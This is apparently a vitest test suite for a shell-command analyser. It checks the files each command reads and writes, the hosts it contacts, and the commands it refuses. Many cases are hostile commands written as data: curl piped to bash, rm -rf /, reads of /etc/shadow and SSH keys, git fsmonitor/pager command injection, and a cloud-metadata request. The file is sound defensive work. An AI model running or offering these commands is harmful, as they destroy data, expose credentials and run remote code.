import { describe, expect, it } from 'vitest';
import { analyzeShell, analyzeShellSync, initShellAnalysis, type SimpleCommand } from '../src/index.js';

/** What a case expects of one command; reads and writes default to none. */
interface Expect {
  argv: string[];
  reads?: string[];
  writes?: string[];
  dyn?: number[];
  dynReads?: string[];
  dynWrites?: string[];
  wrappers?: string[];
  context?: string[];
  hosts?: string[];
  dynHosts?: string[];
}
type Case = [command: string, expected: Expect[] | { reason: string }];

/** argv written as one string: words split on spaces, `\\ ` for a space inside a word. */
const c = (argv: string, more: Omit<Expect, 'argv'> = {}): Expect => ({
  argv: argv === '' ? [] : argv.split(/(?<!\\) /).map((w) => w.replace(/\\ /g, ' ')),
  ...more,
});

const CASES: Case[] = [
  // pipelines
  ['cat a | grep x', [c('cat a', { reads: ['a'], context: ['pipeline'] }), c('grep x', { context: ['pipeline'] })]],
  ['cat a | grep -v x b > out', [c('cat a', { reads: ['a'] }), c('grep -v x b', { reads: ['b'], writes: ['out'] })]],
  ['ls |& tee log', [c('ls'), c('tee log', { writes: ['log'] })]],
  ['! grep -q x f | wc -l', [c('grep -q x f', { reads: ['f'] }), c('wc -l')]],
  ['a | b | c | d', [c('a'), c('b'), c('c'), c('d')]],
  // lists
  ['a && b || c; d & e', [c('a', { context: ['list'] }), c('b', { context: ['list'] }), c('c', { context: ['list'] }), c('d', { context: ['background'] }), c('e', { context: [] })]],
  ['cat .env && echo ok', [c('cat .env', { reads: ['.env'] }), c('echo ok')]],
  ['true;rm -rf /', [c('true'), c('rm -rf /', { writes: ['/'] })]],
  ['a\nb\n\nc', [c('a'), c('b'), c('c')]],
  ['sleep 1 &', [c('sleep 1', { context: ['background'] })]],
  // subshells and groups
  ['(cd /tmp && rm x); cat y', [c('cd /tmp', { context: ['subshell', 'list'] }), c('rm x', { writes: ['x'] }), c('cat y', { reads: ['y'] })]],
  ['{ cat a; rm b; } > out', [c('cat a', { reads: ['a'], writes: ['out'] }), c('rm b', { writes: ['b', 'out'] })]],
  ['( ( cat deep ) )', [c('cat deep', { reads: ['deep'], context: ['subshell'] })]],
  // command substitution, backticks, nesting
  ['echo $(cat .env)', [c('echo $(cat\\ .env)', { dyn: [1] }), c('cat .env', { reads: ['.env'], context: ['command-substitution'] })]],
  ['echo $(echo $(rm x))', [c('echo $(echo\\ $(rm\\ x))', { dyn: [1] }), c('echo $(rm\\ x)', { dyn: [1] }), c('rm x', { writes: ['x'] })]],
  ['echo `rm x`', [c('echo `rm\\ x`', { dyn: [1] }), c('rm x', { writes: ['x'], context: ['command-substitution'] })]],
  ['echo `echo \\`rm inner\\``', [c('echo `echo\\ \\`rm\\ inner\\``', { dyn: [1] }), c('echo `rm\\ inner`', { dyn: [1] }), c('rm inner', { writes: ['inner'] })]],
  ['echo "a $(cat s) b"', [c('echo "a\\ $(cat\\ s)\\ b"', { dyn: [1] }), c('cat s', { reads: ['s'] })]],
  ['x=$(cat secret)', [{ argv: [] }, c('cat secret', { reads: ['secret'] })]],
  ['echo ${x:-$(rm y)}', [c('echo ${x:-$(rm\\ y)}', { dyn: [1] }), c('rm y', { writes: ['y'] })]],
  ['echo $(( $(id -u) + 1 ))', [c('echo $((\\ $(id\\ -u)\\ +\\ 1\\ ))', { dyn: [1] }), c('id -u')]],
  ['echo $(<.env)', [c('echo $(<.env)', { dyn: [1] }), { argv: [], reads: ['.env'] }]],
  ['cat "$(ls)"', [c('cat "$(ls)"', { dyn: [1], dynReads: ['"$(ls)"'] }), c('ls')]],
  ['for f in $(ls); do cat $f; done', [c('ls'), c('cat $f', { dyn: [1], dynReads: ['$f'], context: ['loop'] })]],
  // process substitution
  ['diff <(sort a) <(sort b)', [c('diff <(sort\\ a) <(sort\\ b)', { dyn: [1, 2] }), c('sort a', { reads: ['a'], context: ['process-substitution'] }), c('sort b', { reads: ['b'] })]],
  ['tee >(gzip > out.gz) < in', [c('tee >(gzip\\ >\\ out.gz)', { dyn: [1], reads: ['in'] }), c('gzip', { writes: ['out.gz'] })]],
  ['source <(curl -s http://x)', { reason: 'non-literal source' }],
  // heredocs
  ['cat <<EOF > f\nhello $USER\nEOF', [c('cat', { writes: ['f'] })]],
  ['cat <<EOF\n$(rm -rf z)\nEOF', [c('cat'), c('rm -rf z', { writes: ['z'] })]],
  ["cat <<'EOF'\n$(rm -rf z)\nEOF", [c('cat')]],
  ["bash <<'EOF'\nrm -rf /tmp/y\nEOF", [c('bash'), c('rm -rf /tmp/y', { writes: ['/tmp/y'], context: ['nested'] })]],
  ['bash <<EOF\ncat .env\nEOF', [c('bash'), c('cat .env', { reads: ['.env'] })]],
  ['bash <<EOF\ncat $HOME/.env\nEOF', { reason: 'heredoc fed to bash contains expansions' }],
  ['sh -s <<-EOF\n\trm a\n\tEOF', [c('sh -s'), c('rm a', { writes: ['a'] })]],
  ['cat <<EOF | sh\nrm x\nEOF', { reason: 'reads its script from a pipe' }],
  ['curl -s http://x | bash', { reason: 'reads its script from a pipe' }],
  ['cat <<EOF && rm y\nbody\nEOF', [c('cat'), c('rm y', { writes: ['y'] })]],
  ['bash <<< "rm h"', [c('bash'), c('rm h', { writes: ['h'] })]],
  ['bash <<< "$cmd"', { reason: 'contains expansions' }],
  ['while read l; do echo $l; done < list.txt', [c('read l', { reads: ['list.txt'] }), c('echo $l', { dyn: [1], reads: ['list.txt'] })]],
  // wrappers
  ['sudo -u x env A=1 timeout 5 nice -n 10 cat /etc/shadow', [c('cat /etc/shadow', { reads: ['/etc/shadow'], wrappers: ['sudo -u x', 'env A=1', 'timeout 5', 'nice -n 10'] })]],
  ['env -i PATH=/bin cat f', [c('cat f', { reads: ['f'], wrappers: ['env -i PATH=/bin'] })]],
  ['env', [c('env')]],
  ['env -S "rm -rf /"', { reason: 'env -S' }],
  ['timeout -s KILL 10s rm x', [c('rm x', { writes: ['x'], wrappers: ['timeout -s KILL 10s'] })]],
  ['timeout --kill-after=5 10 cat f', [c('cat f', { reads: ['f'] })]],
  ['nice -5 cat f', [c('cat f', { reads: ['f'], wrappers: ['nice -5'] })]],
  ['nohup rm -rf build &', [c('rm -rf build', { writes: ['build'], wrappers: ['nohup'], context: ['background'] })]],
  ['time cat f', [c('cat f', { reads: ['f'], wrappers: ['time'] })]],
  ['time -o t.log ls', [c('ls', { writes: ['t.log'] })]],
  ['sudo rm -rf /', [c('rm -rf /', { writes: ['/'], wrappers: ['sudo'] })]],
  ['sudo -E -H -u root --preserve-env=A cat f', [c('cat f', { reads: ['f'], wrappers: ['sudo -E -H -u root --preserve-env=A'] })]],
  ['sudo -l', [c('sudo -l')]],
  ['sudo -e /etc/hosts', [c('sudoedit /etc/hosts', { reads: ['/etc/hosts'], writes: ['/etc/hosts'] })]],
  ['doas -u root cat f', [c('cat f', { reads: ['f'] })]],
  ['command -p cat f', [c('cat f', { reads: ['f'], wrappers: ['command -p'] })]],
  ['command -v cat', [c('command -v cat')]],
  ['builtin cd x', [c('cd x')]],
  ['exec cat f', [c('cat f', { reads: ['f'], wrappers: ['exec'] })]],
  ['exec 3> fd.out', [c('exec', { writes: ['fd.out'] })]],
  ['stdbuf -oL grep x f', [c('grep x f', { reads: ['f'], wrappers: ['stdbuf -oL'] })]],
  ['ionice -c 3 rm big', [c('rm big', { writes: ['big'], wrappers: ['ionice -c 3'] })]],
  ['setsid -f rm x', [c('rm x', { writes: ['x'] })]],
  ['chronic -e make', [c('make', { wrappers: ['chronic -e'] })]],
  ['noglob rm *', [c('rm *', { dyn: [1], dynWrites: ['*'] })]],
  ['/usr/bin/sudo /usr/bin/timeout 3 /bin/cat f', [c('/bin/cat f', { reads: ['f'], wrappers: ['/usr/bin/sudo', '/usr/bin/timeout 3'] })]],
  ['sudo $CMD', { reason: 'dynamic command after sudo' }],
  ['env A=$(id) cat f', [c('cat f', { reads: ['f'] }), c('id')]],
  // xargs and find
  ['find . -name "*.tmp" | xargs rm', [c('find . -name *.tmp', { reads: ['.'] }), c('rm', { dynWrites: ['<runtime-args>'], wrappers: ['xargs'] })]],
  ['xargs -0 -n 1 cat < list', [c('cat', { reads: ['list'], dynReads: ['<runtime-args>'], wrappers: ['xargs -0 -n 1'] })]],
  ['ls | xargs -I{} cp {} /backup', [c('ls'), c('cp {} /backup', { dyn: [1], dynReads: ['{}'], writes: ['/backup'] })]],
  ['xargs -a files.txt grep x', [c('grep x', { reads: ['files.txt'], dynReads: ['<runtime-args>'] })]],
  ['find . -name "*.js" -exec rm {} \\;', [c('find . -name *.js -exec rm {} ;', { reads: ['.'] }), c('rm {}', { dyn: [1], dynWrites: ['{}'], context: ['nested'] })]],
  ['find /tmp -execdir cat {} +', [c('find /tmp -execdir cat {} +', { reads: ['/tmp'] }), c('cat {}', { dyn: [1], dynReads: ['{}', '<runtime-args>'] })]],
  ['find build -delete', [c('find build -delete', { reads: ['build'], writes: ['build'] })]],
  ['find . -fprint out.txt', [c('find . -fprint out.txt', { reads: ['.'], writes: ['out.txt'] })]],
  ['find . -exec sh -c "rm x" \\;', [c('find . -exec sh -c rm\\ x ;', { reads: ['.'] }), c('sh -c rm\\ x'), c('rm x', { writes: ['x'] })]],
  ['find . -exec rm {}', { reason: 'without a terminating' }],
  // bash -c, sh -c, eval nesting
  ["bash -c 'cat .env'", [c('bash -c cat\\ .env'), c('cat .env', { reads: ['.env'], context: ['nested'] })]],
  ['sh -c "rm -rf /tmp/x && echo done"', [c('sh -c rm\\ -rf\\ /tmp/x\\ &&\\ echo\\ done'), c('rm -rf /tmp/x', { writes: ['/tmp/x'] }), c('echo done')]],
  ["bash -lc 'cat a'", [c('bash -lc cat\\ a'), c('cat a', { reads: ['a'] })]],
  ["bash -o pipefail -c 'cat a | wc'", [c('bash -o pipefail -c cat\\ a\\ |\\ wc'), c('cat a', { reads: ['a'] }), c('wc')]],
  ["zsh -c 'touch z'", [c('zsh -c touch\\ z'), c('touch z', { writes: ['z'] })]],
  ["bash -c \"bash -c 'cat deep'\"", [c("bash -c bash\\ -c\\ 'cat\\ deep'"), c('bash -c cat\\ deep'), c('cat deep', { reads: ['deep'] })]],
  ["bash -c \"bash -c \\\"bash -c 'bash -c x'\\\"\"", { reason: 'nesting deeper than 3' }],
  ['bash -c "$SCRIPT"', { reason: 'not a literal' }],
  ['bash -c', { reason: '-c without a script' }],
  ['bash script.sh', [c('bash script.sh', { reads: ['script.sh'] })]],
  ["eval 'rm -rf x'", [c('eval rm\\ -rf\\ x'), c('rm -rf x', { writes: ['x'], context: ['nested'] })]],
  ['eval rm y', [c('eval rm y'), c('rm y', { writes: ['y'] })]],
  ['eval "$X"', { reason: 'eval of a non-literal' }],
  ["sudo bash -c 'cat /root/.ssh/id_rsa'", [c('bash -c cat\\ /root/.ssh/id_rsa', { wrappers: ['sudo'] }), c('cat /root/.ssh/id_rsa', { reads: ['/root/.ssh/id_rsa'] })]],
  ["fish -c 'rm x'", { reason: 'fish scripts are not analysed' }],
  ["watch -n 1 'cat f'", [c('watch -n 1 cat\\ f'), c('cat f', { reads: ['f'], context: ['nested'] })]],
  ['watch -x rm f', [c('watch -x rm f'), c('rm f', { writes: ['f'] })]],
  // redirections
  ['cmd 2>&1', [c('cmd')]],
  ['cmd > out 2> err', [c('cmd', { writes: ['out', 'err'] })]],
  ['cmd >> log', [c('cmd', { writes: ['log'] })]],
  ['cmd &> all', [c('cmd', { writes: ['all'] })]],
  ['cmd &>> all', [c('cmd', { writes: ['all'] })]],
  ['cmd >| clobber', [c('cmd', { writes: ['clobber'] })]],
  ['cmd >&file', [c('cmd', { writes: ['file'] })]],
  ['cmd 3> three 4< four', [c('cmd', { writes: ['three'], reads: ['four'] })]],
  ['cmd > /dev/null 2>/dev/stderr < /dev/stdin', [c('cmd')]],
  ['cmd > "$OUT"', [c('cmd', { dynWrites: ['"$OUT"'] })]],
  ['cmd <> rw', { reason: 'parse error' }],
  ['> truncated', [{ argv: [], writes: ['truncated'] }]],
  ['>f cat <g x', [c('cat x', { reads: ['x', 'g'], writes: ['f'] })]],
  ['cat > f x', [c('cat x', { reads: ['x'], writes: ['f'] })]],
  ['cmd 2>&-', [c('cmd')]],
  // quoting tricks
  ["c''at .env", [c('cat .env', { reads: ['.env'] })]],
  ['"c"at .env', [c('cat .env', { reads: ['.env'] })]],
  ['\\cat .env', [c('cat .env', { reads: ['.env'] })]],
  ["$'\\x63at' .env", [c('cat .env', { reads: ['.env'] })]],
  ["$'\\143\\141\\164' .env", [c('cat .env', { reads: ['.env'] })]],
  ["cat $'a\\nb'", [c('cat a\nb', { reads: ['a\nb'] })]],
  ["cat 'a b' \"c d\" e\\ f", [{ argv: ['cat', 'a b', 'c d', 'e f'], reads: ['a b', 'c d', 'e f'] }]],
  ['cat "\\$HOME"', [{ argv: ['cat', '$HOME'], reads: ['$HOME'] }]],
  ['"$(echo rm)" -rf /', { reason: 'dynamic command name' }],
  ['$CMD args', { reason: 'dynamic command name: $CMD' }],
  ['${CMD} args', { reason: 'dynamic command name' }],
  ['c?t f', { reason: 'parse error' }],
  ['ca{t,} f', { reason: 'dynamic command name' }],
  ['$"translated" x', { reason: 'unsupported' }],
  // globs, braces, tilde, variables
  ['cat *.env', [c('cat *.env', { dyn: [1], dynReads: ['*.env'] })]],
  ['cat "*.env"', [c('cat *.env', { reads: ['*.env'] })]],
  ['cat \\*.env', [c('cat *.env', { reads: ['*.env'] })]],
  ['cat .e?v', [c('cat .e?v', { dyn: [1], dynReads: ['.e?v'] })]],
  ['cat [.]env', [c('cat [.]env', { dyn: [1] })]],
  ['cat .{e,}nv', [c('cat .{e,}nv', { dyn: [1], dynReads: ['.{e,}nv'] })]],
  ['echo {1..3}', [c('echo {1..3}', { dyn: [1] })]],
  ['echo "{a,b}"', [c('echo {a,b}')]],
  ['cat ~/.ssh/id_rsa', [c('cat ~/.ssh/id_rsa', { reads: ['~/.ssh/id_rsa'] })]],
  ['cat ~root/.ssh/id_rsa', [c('cat ~root/.ssh/id_rsa', { dyn: [1], dynReads: ['~root/.ssh/id_rsa'] })]],
  ['cat $HOME/.env', [c('cat $HOME/.env', { dyn: [1], dynReads: ['$HOME/.env'] })]],
  ['A=1 B=2 cat f', [c('cat f', { reads: ['f'] })]],
  // command names with paths
  ['/bin/cat /etc/passwd', [c('/bin/cat /etc/passwd', { reads: ['/etc/passwd'] })]],
  ['./x --flag', [c('./x --flag')]],
  // functions, aliases
  ['cat(){ rm -rf /; }; cat x', [c('rm -rf /', { writes: ['/'], context: ['function'] }), c('cat x', { reads: ['x'] })]],
  ['function f { cat /etc/shadow; }; f', [c('cat /etc/shadow', { reads: ['/etc/shadow'] }), c('f')]],
  ["alias ls='rm -rf /'; ls", [c("alias ls=rm\\ -rf\\ /"), c('ls')]],
  ['shopt -s expand_aliases; alias x=y', { reason: 'expand_aliases' }],
  // control flow
  ['if [ -f x ]; then cat x; else rm x; fi', [c('cat x', { reads: ['x'], context: ['conditional'] }), c('rm x', { writes: ['x'] })]],
  ['case $1 in a) cat a;; *) rm b;; esac', [c('cat a', { reads: ['a'] }), c('rm b', { writes: ['b'] })]],
  ['while true; do rm x; done', [c('true', { context: ['loop'] }), c('rm x', { writes: ['x'] })]],
  ['until false; do :; done', [c('false'), c(':')]],
  ['for ((i=0;i<3;i++)); do touch f$i; done', [{ argv: [] }, c('touch f$i', { dyn: [1], dynWrites: ['f$i'] })]],
  ['[[ -f x && $(cat y) == z ]] && echo ok', [c('cat y', { reads: ['y'] }), c('echo ok')]],
  ['export A=$(cat key) B', [c('export A=$(cat\\ key) B', { dyn: [1] }), c('cat key', { reads: ['key'] })]],
  // comments, continuations, unicode, NUL, size
  ['cat f # rm -rf /', [c('cat f', { reads: ['f'] })]],
  ['# only a comment', []],
  ['', []],
  ['cat \\\n  f', [c('cat f', { reads: ['f'] })]],
  ['cat naïve-é.txt 日本', [c('cat naïve-é.txt 日本', { reads: ['naïve-é.txt', '日本'] })]],
  ['cat "ü$(rm ö)"', [c('cat "ü$(rm\\ ö)"', { dyn: [1], dynReads: ['"ü$(rm ö)"'] }), c('rm ö', { writes: ['ö'] })]],
  ['cat a\0b', { reason: 'NUL byte' }],
  [`echo ${'x'.repeat(20_000)}`, { reason: 'longer than 10000' }],
  // unparseable
  ['echo "unterminated', { reason: 'parse error' }],
  ['if then fi', { reason: 'parse error' }],
  ['cat (', { reason: 'parse error' }],
  ['echo $(', { reason: 'parse error' }],
  // reading and writing programs
  ['head -n 5 a b', [c('head -n 5 a b', { reads: ['a', 'b'] })]],
  ['tail -20 log', [c('tail -20 log', { reads: ['log'] })]],
  ['grep -r pattern src', [c('grep -r pattern src', { reads: ['src'] })]],
  ['grep -e pat -f pats.txt file', [c('grep -e pat -f pats.txt file', { reads: ['pats.txt', 'file'] })]],
  ['rg -g "*.ts" TODO src', [c('rg -g *.ts TODO src', { reads: ['src'] })]],
  ['rg --pre ./x foo', { reason: 'rg --pre' }],
  ["sed -n '1,5p' f", [c('sed -n 1,5p f', { reads: ['f'] })]],
  ["sed -i 's/a/b/g' f", [c('sed -i s/a/b/g f', { reads: ['f'], writes: ['f'] })]],
  ["sed 's/a/b/w out' f", { reason: 'sed script may write' }],
  ["sed 's/a/b/e' f", { reason: 'sed script may write' }],
  ["awk '{print $1}' data", [c('awk {print\\ $1} data', { reads: ['data'] })]],
  ["awk -v n=1 '{print}' v=2 data", [c('awk -v n=1 {print} v=2 data', { reads: ['data'] })]],
  ["awk '{system(\"rm x\")}' f", { reason: 'awk program' }],
  ["awk '{print > \"out\"}' f", { reason: 'awk program' }],
  ['wc -l a; sort -o sorted in; uniq in out', [c('wc -l a', { reads: ['a'] }), c('sort -o sorted in', { reads: ['in'], writes: ['sorted'] }), c('uniq in out', { reads: ['in'], writes: ['out'] })]],
  ["jq '.a' x.json", [c('jq .a x.json', { reads: ['x.json'] })]],
  ['jq --arg n v -f prog.jq in.json', [c('jq --arg n v -f prog.jq in.json', { reads: ['prog.jq', 'in.json'] })]],
  ['yq -i ".a = 1" c.yaml', [c('yq -i .a\\ =\\ 1 c.yaml', { reads: ['c.yaml'], writes: ['c.yaml'] })]],
  ['source ./env.sh; . ~/.bashrc', [c('source ./env.sh', { reads: ['./env.sh'] }), c('. ~/.bashrc', { reads: ['~/.bashrc'] })]],
  ['cp a b dest/', [c('cp a b dest/', { reads: ['a', 'b'], writes: ['dest/'] })]],
  ['cp -t dest a b', [c('cp -t dest a b', { reads: ['a', 'b'], writes: ['dest'] })]],
  ['mv old new', [c('mv old new', { writes: ['old', 'new'] })]],
  ['install -m 755 bin /usr/local/bin/x', [c('install -m 755 bin /usr/local/bin/x', { reads: ['bin'], writes: ['/usr/local/bin/x'] })]],
  ['ln -s target link', [c('ln -s target link', { writes: ['link'] })]],
  ['touch a; mkdir -p b/c; rmdir d; unlink e; truncate -s 0 f; shred -u g', [c('touch a', { writes: ['a'] }), c('mkdir -p b/c', { writes: ['b/c'] }), c('rmdir d', { writes: ['d'] }), c('unlink e', { writes: ['e'] }), c('truncate -s 0 f', { writes: ['f'] }), c('shred -u g', { writes: ['g'] })]],
  ['chmod 600 key; chown -R me dir', [c('chmod 600 key', { writes: ['key'] }), c('chown -R me dir', { writes: ['dir'] })]],
  ['dd if=/dev/sda of=disk.img bs=1M', [c('dd if=/dev/sda of=disk.img bs=1M', { reads: ['/dev/sda'], writes: ['disk.img'] })]],
  ['tee -a a b < in', [c('tee -a a b', { reads: ['in'], writes: ['a', 'b'] })]],
  ['curl -o out.html -d @body.json http://x', [c('curl -o out.html -d @body.json http://x', { reads: ['body.json'], writes: ['out.html'] })]],
  ['base64 id_rsa; xxd key; strings bin; stat f; file g', [c('base64 id_rsa', { reads: ['id_rsa'] }), c('xxd key', { reads: ['key'] }), c('strings bin', { reads: ['bin'] }), c('stat f', { reads: ['f'] }), c('file g', { reads: ['g'] })]],
  ['diff -u a b; cmp c d', [c('diff -u a b', { reads: ['a', 'b'] }), c('cmp c d', { reads: ['c', 'd'] })]],
  ['cat -- -weird', [c('cat -- -weird', { reads: ['-weird'] })]],
  ['vim notes.txt', [c('vim notes.txt', { reads: ['notes.txt'], writes: ['notes.txt'] })]],
  // git and folders
  ['git status && git -C sub log', [c('git status'), c('git -C sub log')]],
  ['git -c core.pager="rm -rf /" log', { reason: 'core.pager' }],
  ['git -c alias.x=!rm x', { reason: 'alias.x' }],
  ['git -c user.name=me commit -m msg', [c('git -c user.name=me commit -m msg')]],
  // git config that changes a config file writes it; reading one writes nothing.
  ['git config core.fsmonitor "touch /tmp/pwned"', [c('git config core.fsmonitor touch\\ /tmp/pwned', { writes: ['.git/config'] })]],
  ['git config --local core.hooksPath .githooks', [c('git config --local core.hooksPath .githooks', { writes: ['.git/config'] })]],
  ['git -C nested config core.fsmonitor x', [c('git -C nested config core.fsmonitor x', { writes: ['nested/.git/config'] })]],
  ['git -C a -C b config --worktree alias.x "!sh"', [c('git -C a -C b config --worktree alias.x !sh', { writes: ['a/b/.git/config.worktree'] })]],
  ['git --git-dir=evil config set core.pager less', [c('git --git-dir=evil config set core.pager less', { writes: ['evil/config'] })]],
  ['git config --global core.hooksPath ~/h', [c('git config --global core.hooksPath ~/h', { writes: ['~/.gitconfig'] })]],
  ['git config -f .githooks/cfg x.y z', [c('git config -f .githooks/cfg x.y z', { writes: ['.githooks/cfg'] })]],
  ['git config --add include.path ../x', [c('git config --add include.path ../x', { writes: ['.git/config'] })]],
  ['git config --unset core.fsmonitor', [c('git config --unset core.fsmonitor', { writes: ['.git/config'] })]],
  ['git config --edit', [c('git config --edit', { writes: ['.git/config'] })]],
  ['git config --rename-section core x', [c('git config --rename-section core x', { writes: ['.git/config'] })]],
  ['git -C "$D" config core.fsmonitor x', [c('git -C "$D" config core.fsmonitor x', { dyn: [2], dynWrites: ['"$D"/.git/config'] })]],
  ['git config user.email me@example.com', [c('git config user.email me@example.com')]],
  ['git config --get core.hooksPath', [c('git config --get core.hooksPath')]],
  ['git config core.hooksPath', [c('git config core.hooksPath')]],
  ['git config get core.fsmonitor', [c('git config get core.fsmonitor')]],
  ['git config -l', [c('git config -l')]],
  ['git config --list --show-origin', [c('git config --list --show-origin')]],
  // Creating a repository, a worktree or a submodule creates a .git folder or pointer.
  ['git init', [c('git init', { writes: ['.git'] })]],
  ['git init nested', [c('git init nested', { writes: ['nested/.git'] })]],
  ['git init --bare store.git', [c('git init --bare store.git', { writes: ['store.git'] })]],
  ['git init --separate-git-dir=evilgit sub', [c('git init --separate-git-dir=evilgit sub', { writes: ['sub/.git', 'evilgit'] })]],
  ['git -C x clone ../up y', [c('git -C x clone ../up y', { writes: ['x/y/.git'] })]],
  ['git worktree add ../wt main', [c('git worktree add ../wt main', { writes: ['../wt/.git'] })]],
  ['git submodule add https://example.com/lib.git vendor/lib', [c('git submodule add https://example.com/lib.git vendor/lib', { writes: ['.gitmodules', 'vendor/lib/.git'], hosts: ['example.com'] })]],
  ['git clone -u "sh -c id" ../up', { reason: 'upload-pack' }],
  ['git $SUB core.fsmonitor x', { reason: 'non-literal' }],
  ["git submodule foreach 'git config core.fsmonitor x'", { reason: 'foreach' }],
  ['git rebase -x "printf x >> .git/config" HEAD~2', { reason: 'rebase --exec' }],
  ['git bisect run ./check.sh', { reason: 'bisect run' }],
  // Ordinary git work writes nothing the analysis reports.
  ['git add -A && git commit -m "x" && git status', [c('git add -A'), c('git commit -m x'), c('git status')]],
  ['cd /etc && cat shadow', [c('cd /etc'), c('cat shadow', { reads: ['shadow'] })]],
  ['cd "$DIR" && cat x', { reason: 'working folder' }],
  ['(cd "$DIR" && make); cat x', { reason: 'working folder' }],
  // hosts of well-known network programs
  ["curl -s 'https://API.Example.com:8443/v1?q=1'", [c('curl -s https://API.Example.com:8443/v1?q=1', { hosts: ['api.example.com'] })]],
  // Unquoted, the "?" is a glob: the word is only known at run time.
  ['curl -s https://api.example.com/v1?q=1', [c('curl -s https://api.example.com/v1?q=1', { dyn: [2], hosts: [], dynHosts: ['https://api.example.com/v1?q=1'] })]],
  ['curl -d @- -H "X: y" example.org/post', [c('curl -d @- -H X:\\ y example.org/post', { hosts: ['example.org'] })]],
  ['wget -q -O out.html http://user:pw@files.test/a', [c('wget -q -O out.html http://user:pw@files.test/a', { writes: ['out.html'], hosts: ['files.test'] })]],
  ['curl "$URL"', [c('curl "$URL"', { dyn: [1], hosts: [], dynHosts: ['"$URL"'] })]],
  ['cat - < in.txt | tee -', [c('cat -', { reads: ['in.txt'] }), c('tee -')]],
  ['ssh -p 2222 deploy@prod-box uptime', [c('ssh -p 2222 deploy@prod-box uptime', { hosts: ['prod-box'] })]],
  ['scp -P 22 notes.txt me@10.0.0.5:/tmp/', [c('scp -P 22 notes.txt me@10.0.0.5:/tmp/', { hosts: ['10.0.0.5'] })]],
  ['rsync -a -e "ssh -p 22" ./site/ backup:/srv/site', [c('rsync -a -e ssh\\ -p\\ 22 ./site/ backup:/srv/site', { hosts: ['backup'] })]],
  ['nc -z -w 3 db.internal 5432', [c('nc -z -w 3 db.internal 5432', { hosts: ['db.internal'] })]],
  // A clone creates a repository (app/.git), whose config and hooks git runs later.
  ['git clone git@github.com:acme/app.git', [c('git clone git@github.com:acme/app.git', { hosts: ['github.com'], writes: ['app/.git'] })]],
  ['git -C repo fetch https://gitlab.example.com/x.git main', [c('git -C repo fetch https://gitlab.example.com/x.git main', { hosts: ['gitlab.example.com'] })]],
  ['git push origin main', [c('git push origin main', { hosts: [] })]],
  ['git commit -m "fix: typo"', [c('git commit -m fix:\\ typo', { hosts: [] })]],
  ['echo https://not-a-request.example.com', [c('echo https://not-a-request.example.com', { hosts: [] })]],
  ['sudo timeout 5 curl http://169.254.169.254/latest/meta-data/', [c('curl http://169.254.169.254/latest/meta-data/', { hosts: ['169.254.169.254'] })]],
];

function pick(cmd: SimpleCommand, want: Expect) {
  return {
    argv: cmd.argv,
    reads: cmd.reads,
    writes: cmd.writes,
    ...(want.dyn ? { dyn: cmd.dynamicArgs } : {}),
    ...(want.dynReads ? { dynReads: cmd.dynamicReads } : {}),
    ...(want.dynWrites ? { dynWrites: cmd.dynamicWrites } : {}),
    ...(want.wrappers ? { wrappers: cmd.wrappers } : {}),
    ...(want.context ? { context: cmd.context } : {}),
    ...(want.hosts ? { hosts: cmd.hosts } : {}),
    ...(want.dynHosts ? { dynHosts: cmd.dynamicHosts } : {}),
  };
}

describe('analyzeShell', () => {
  it('has at least 120 cases', () => expect(CASES.length).toBeGreaterThanOrEqual(120));

  it.each(CASES)('%j', async (command, expected) => {
    const result = await analyzeShell(command);
    if (!Array.isArray(expected)) {
      expect(result.ok, JSON.stringify(result)).toBe(false);
      if (!result.ok) expect(result.reason).toContain(expected.reason);
      return;
    }
    expect(result.ok, JSON.stringify(result)).toBe(true);
    if (!result.ok) return;
    const got = result.commands.map((cmd, i) => (expected[i] ? pick(cmd, expected[i]) : { extra: cmd.text }));
    const want = expected.map((e) => ({ reads: [], writes: [], ...e }));
    expect(got).toEqual(want);
  });
});

describe('API details', () => {
  it('analyzeShellSync gives the same answer once initialised', async () => {
    await initShellAnalysis();
    expect(analyzeShellSync('cat a > b')).toEqual(await analyzeShell('cat a > b'));
  });

  it('lists nested scripts both under the command and flat', async () => {
    const result = await analyzeShell("bash -c 'cat x'");
    if (!result.ok) throw new Error(result.reason);
    expect(result.commands[0]!.nested).toEqual([{ ok: true, commands: [result.commands[1]] }]);
  });

  it('records redirect operators, descriptors and kinds', async () => {
    // tree-sitter-bash rejects a here-string after other redirections, so it comes first here.
    const result = await analyzeShell('cmd <<<"hi" 2>&1 >out <in 3>>log');
    if (!result.ok) throw new Error(result.reason);
    expect(result.commands[0]!.redirects).toEqual([
      { op: '<<<', target: undefined, kind: 'heredoc', body: 'hi\n' },
      { op: '>&', target: '1', fd: 2, kind: 'dup' },
      { op: '>', target: 'out', kind: 'write' },
      { op: '<', target: 'in', kind: 'read' },
      { op: '>>', target: 'log', fd: 3, kind: 'write' },
    ]);
  });

  it('keeps the folder a cd moved to', async () => {
    const result = await analyzeShell('cd /etc && cat shadow; env -C /root cat .profile');
    if (!result.ok) throw new Error(result.reason);
    expect(result.commands.map((cmd) => cmd.cwd)).toEqual([undefined, '/etc', '/root']);
  });

  it('marks xargs commands and function calls', async () => {
    const result = await analyzeShell('f(){ :; }; f; ls | xargs rm');
    if (!result.ok) throw new Error(result.reason);
    const byName = Object.fromEntries(result.commands.map((cmd) => [cmd.name, cmd]));
    expect(byName.f!.callsFunction).toBe(true);
    expect(byName.rm!.unknownArgs).toBe(true);
    expect(byName.ls!.unknownArgs).toBe(false);
  });

  it('honours maxLength and maxDepth', async () => {
    expect(await analyzeShell('echo hello', { maxLength: 5 })).toMatchObject({ ok: false });
    expect(await analyzeShell("bash -c 'ls'", { maxDepth: 0 })).toMatchObject({ ok: false, reason: expect.stringContaining('nesting') });
  });

  // Its speed (about 0.2 ms for a command like this one on a quiet machine) is a benchmark's
  // question, not asserted here: a loaded machine is not a slow analysis.
  it('after init, the synchronous analysis answers as the asynchronous one, every time', async () => {
    await initShellAnalysis();
    const command = 'git -C repo log --oneline | grep -v foo > /tmp/out && cat "$HOME/.env"';
    const expected = await analyzeShell(command);
    for (let i = 0; i < 20; i++) expect(analyzeShellSync(command)).toEqual(expected);
  });
});

describe('links and removals (what a later command reaches)', () => {
  const first = async (command: string, index = 0) => {
    const a = await analyzeShell(command);
    if (!a.ok) throw new Error(a.reason);
    return a.commands[index]!;
  };

  it('ln -s TARGET NAME: the name leads to the target; a folder destination gets DEST/<name> too', async () => {
    expect((await first('ln -s ~/.config cfgl')).links).toEqual([
      { path: 'cfgl', target: '~/.config', kind: 'symlink' },
      { path: 'cfgl/.config', target: '~/.config', kind: 'symlink' },
    ]);
    expect((await first('ln -sT ../x y')).links).toEqual([{ path: 'y', target: '../x', kind: 'symlink' }]);
